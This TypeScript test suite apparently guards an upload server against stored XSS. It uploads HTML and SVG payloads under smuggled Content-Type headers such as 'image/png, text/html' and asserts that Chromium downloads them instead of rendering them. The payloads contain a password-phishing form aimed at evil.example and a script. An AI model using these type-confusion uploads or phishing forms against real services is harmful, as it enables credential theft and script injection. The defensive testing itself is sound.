/**
 * Issue 9.3: no uploaded file renders as a document on our origin. Each declared type that once
 * slipped past a prefix check (`image/png, text/html`…), HTML itself and SVG with a script are
 * uploaded with an HTML/SVG payload holding a phishing form and a script; Chromium navigates to
 * the download URL and must download it, never build a page from it.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { signSlotUrl } from '../../src/index.js';
import { browserUnavailable, launchChromium } from '../helpers/browser.js';
import { pathOf, rawRequest, slotDir } from '../helpers/http.js';
import { startServer, TEST_SECRET, type SpawnedServer } from '../helpers/server.js';

const HTML = Buffer.from(
  '<!doctype html><title>x</title><form id="phish" action="https://evil.example/"><input name="pw" type="password"></form>' +
    '<script>document.title = "pwned"; window.ran = true;</script>',
);
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect id="phish" width="10" height="10"/>' +
    '<script>document.title = "pwned"; window.ran = true;</script></svg>',
);
/** A 1x1 PNG: the control that must still render in place. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

interface Visit {
  downloaded: boolean;
  /** The payload's form/rect is in the DOM. */
  rendered: boolean;
  ran: boolean;
  title: string;
}

/** Navigates to `url` and reports whether Chromium downloaded it or built a page from it. */
async function visit(context: BrowserContext, url: string): Promise<Visit> {
  const page: Page = await context.newPage();
  try {
    const download = page.waitForEvent('download', { timeout: 15_000 }).then(
      async (d) => {
        await d.cancel().catch(() => {});
        return true;
      },
      () => false,
    );
    let navigated = true;
    await page.goto(url, { waitUntil: 'load', timeout: 15_000 }).catch((err: Error) => {
      // Playwright rejects a navigation that turned into a download ("Download is starting").
      if (!/Download is starting|ERR_ABORTED/.test(err.message)) throw err;
      navigated = false;
    });
    const downloaded = navigated ? false : await download;
    const state = await page.evaluate(() => ({
      rendered: document.getElementById('phish') !== null,
      ran: (window as unknown as { ran?: boolean }).ran === true,
      title: document.title,
    }));
    return { downloaded, ...state };
  } finally {
    await page.close();
  }
}

describe('uploaded content never renders as a document in Chromium', { skip: browserUnavailable() ?? false }, () => {
  let server: SpawnedServer;
  let browser: Browser;
  let context: BrowserContext;
  let control: Server;
  let controlUrl = '';

  /** PUT with a v slot (the type is not signed): the server records the Content-Type as sent. */
  const publish = async (name: string, body: Buffer, contentType: string) => {
    const slot = signSlotUrl({ secret: TEST_SECRET, path: `${slotDir()}/${name}`, baseUrl: server.uploadUrl, size: body.length });
    const res = await rawRequest(server.baseUrl, pathOf(slot.url), { method: 'PUT', body, headers: { 'Content-Type': contentType } });
    assert.equal(res.status, 201, res.text);
    return slot.getUrl;
  };

  before(async () => {
    server = await startServer();
    browser = await launchChromium();
    context = await browser.newContext({ acceptDownloads: true });
    // The detector's control: the same payload served as HTML by a plain server renders.
    control = createServer((_req, res) => {
      res.setHeader('Content-Type', 'text/html');
      res.end(HTML);
    });
    await new Promise<void>((resolve) => control.listen(0, '127.0.0.1', resolve));
    controlUrl = `http://127.0.0.1:${(control.address() as AddressInfo).port}/`;
  });
  after(async () => {
    await browser?.close();
    await new Promise<void>((resolve) => (control ? control.close(() => resolve()) : resolve()));
    await server?.dispose();
  });

  it('the detector sees a rendered document when one is served (control)', async () => {
    const seen = await visit(context, controlUrl);
    assert.deepEqual(seen, { downloaded: false, rendered: true, ran: true, title: 'pwned' });
  });

  const variants: Array<[name: string, declared: string, body: Buffer]> = [
    ['list.png', 'image/png, text/html', HTML],
    ['param.jpg', 'image/jpeg;text/html', HTML],
    ['list.mp4', 'video/mp4, text/html', HTML],
    ['page.html', 'text/html', HTML],
    ['page.xhtml', 'application/xhtml+xml', HTML],
    ['drawing.svg', 'image/svg+xml', SVG],
    ['drawing-charset.svg', 'image/svg+xml; charset=utf-8', SVG],
  ];
  for (const [name, declared, body] of variants) {
    it(`${JSON.stringify(declared)} is downloaded, not rendered`, async () => {
      const url = await publish(name, body, declared);
      const seen = await visit(context, url);
      assert.deepEqual(seen, { downloaded: true, rendered: false, ran: false, title: '' }, name);
      const head = await rawRequest(server.baseUrl, pathOf(url), { method: 'HEAD' });
      assert.equal(head.headers['content-type'], 'application/octet-stream');
      assert.match(String(head.headers['content-disposition']), /^attachment; filename="/);
    });
  }

  it('an image still renders in place, with the normalised type and the sandboxing CSP', async () => {
    const url = await publish('pixel.png', PNG, 'Image/PNG');
    const res = await rawRequest(server.baseUrl, pathOf(url));
    assert.equal(res.headers['content-type'], 'image/png');
    assert.equal(res.headers['content-disposition'], undefined);
    assert.equal(res.headers['content-security-policy'], "default-src 'none'; sandbox; form-action 'none'; frame-ancestors 'none'");
    const page = await context.newPage();
    try {
      await page.goto(url, { waitUntil: 'load' });
      const width = await page.evaluate(() => document.querySelector('img')?.naturalWidth ?? 0);
      assert.equal(width, 1, 'Chromium shows the image document');
    } finally {
      await page.close();
    }
  });
});
